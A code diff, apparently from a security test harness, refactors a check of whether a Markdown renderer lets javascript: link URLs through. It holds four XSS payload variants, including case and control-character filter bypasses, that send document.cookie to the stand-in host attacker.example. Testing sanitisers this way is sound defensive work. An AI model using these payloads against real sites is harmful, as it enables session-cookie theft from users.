@@ -19,15 +19,17 @@ def works(code):
     assert "Ada &lt;ada@example.com&gt;" in html
 
 
-def exploit(code):
-    steal = "location='https://attacker.example/?'+document.cookie"
-    targets = [
-        f"javascript:{steal}",
-        f"JavaScript:{steal}",
-        f"\x01javascript:{steal}",
-        f"javascript://example.com/%0a{steal}",
-    ]
-    for target in targets:
+STEAL = "location='https://attacker.example/?'+document.cookie"
+FORMS = (
+    f"javascript:{STEAL}",
+    f"JavaScript:{STEAL}",
+    f"\x01javascript:{STEAL}",
+    f"javascript://example.com/%0a{STEAL}",
+)
+
+
+def exploit(code, vary=None, payloads=FORMS):
+    for target in payloads:
         scripts = scripts_of(render(code, f"See the [release notes]({target})"))
         if any(script.endswith("document.cookie") for script in scripts):
             return True
